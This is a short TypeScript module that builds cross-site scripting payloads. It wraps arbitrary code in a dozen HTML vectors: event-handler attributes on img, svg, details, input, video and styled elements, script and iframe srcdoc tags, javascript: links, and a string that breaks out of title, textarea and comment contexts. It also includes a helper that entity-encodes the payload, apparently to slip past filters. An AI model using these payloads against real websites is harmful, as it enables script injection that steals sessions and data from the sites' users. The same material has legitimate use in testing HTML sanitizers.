// What hostile HTML is made of: the smallest pieces that run or load something when a browser believes them.

/** `run` is code without quotes, `load` an address; both name the payload. */
export type Draft = (run: string, load: string) => string;

export const entities = (text: string): string => [...text].map((sign) => `&#${sign.charCodeAt(0)};`).join('');

export const cores: Draft[] = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<script>${run}</script>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${run}>x</b>`,
  (run) => `<a title="</style></title></textarea></noscript></template></xmp>--><img src=x onerror=${run}>">x</a>`,
  (run) => `<video><source onerror=${run}></video>`,
  (_run, load) => `<img src="${load}">`,
];
